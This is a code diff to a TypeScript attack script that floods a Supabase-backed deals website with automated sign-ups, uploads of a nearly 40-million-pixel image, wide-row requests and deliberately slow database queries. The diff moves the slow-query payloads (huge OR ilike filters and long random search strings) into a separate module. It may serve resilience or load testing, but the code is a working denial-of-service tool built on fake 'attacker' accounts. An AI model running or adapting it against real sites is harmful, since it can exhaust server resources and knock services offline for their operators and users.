@@ -1,6 +1,7 @@
 import { randomBytes } from "node:crypto";
 import { Agent, FormData, fetch } from "undici";
 import type { SiteConfig } from "#contract/site-config.ts";
+import { slowRequest } from "./slow-requests.ts";
 import { tallImage } from "./tall-image.ts";
 
 /**
@@ -17,19 +18,6 @@ interface Attack {
 const site = process.argv[2] ?? "";
 const dispatcher = new Agent({ connections: 64 });
 const { supabaseAnonKey } = (await (await fetch(`${site}/config.json`)).json()) as SiteConfig;
-const LETTERS = randomBytes(256 * 1024).toString("hex");
-const SLOW_FILTERS = [
-  `or=(${Array.from({ length: 250 }, (_, n) => `description.ilike.*${n}*`).join(",")})`,
-  `or=(${Array.from({ length: 20 }, (_, n) => `description.ilike.*${n}*`).join(",")})`,
-  `or=(${Array.from({ length: 50 }, (_, n) => `description.fts.word${n}`).join(",")})`,
-  `description=ilike(any).{${Array.from({ length: 200 }, (_, n) => `*${n}*`).join(",")}}`,
-];
-const SLOW_CALLS: [name: string, args: object][] = [
-  ["search_deals", { search_query: LETTERS }],
-  ["search_deals", { search_query: "%".repeat(LETTERS.length) }],
-  ["get_hottest_deals", { location_filter: LETTERS }],
-  ["count_deals", { location_filter: LETTERS }],
-];
 const image = tallImage(39_999_999);
 const tokens = await Promise.all([signUp(1), signUp(2)]);
 
@@ -74,16 +62,9 @@ function requestWideRows(): Promise<unknown> {
 }
 
 function requestSlowStatements(n: number): Promise<unknown> {
-  const [name, args] = SLOW_CALLS[n % SLOW_CALLS.length] ?? [];
-  if (n % 2 === 0 && name !== undefined) {
-    const headers = { "content-type": "application/json" };
-    const body = JSON.stringify(args);
-    return request(`/rest/v1/rpc/${name}`, "203.0.113.2", { method: "POST", headers, body });
-  }
-  return request(
-    `/rest/v1/deals?select=id&${SLOW_FILTERS[n % SLOW_FILTERS.length]}`,
-    "203.0.113.2",
-  );
+  const { path, body } = slowRequest(n);
+  const headers = { "content-type": "application/json" };
+  return request(path, "203.0.113.2", body === undefined ? {} : { method: "POST", headers, body });
 }
 
 function uploadTallImages(n: number): Promise<unknown> {
@@ -101,7 +82,10 @@ async function signUp(n: number): Promise<string> {
   const response = await fetch(`${site}/auth/v1/signup`, {
     method: "POST",
     headers: { apikey: supabaseAnonKey, "content-type": "application/json" },
-    body: JSON.stringify({ email: `attacker${n}@example.com`, password: LETTERS.slice(0, 20) }),
+    body: JSON.stringify({
+      email: `attacker${n}@example.com`,
+      password: randomBytes(10).toString("hex"),
+    }),
   });
   const { access_token: token } = (await response.json()) as { access_token?: string };
   if (token === undefined) throw new Error(`An attacker could not sign up: ${response.status}`);
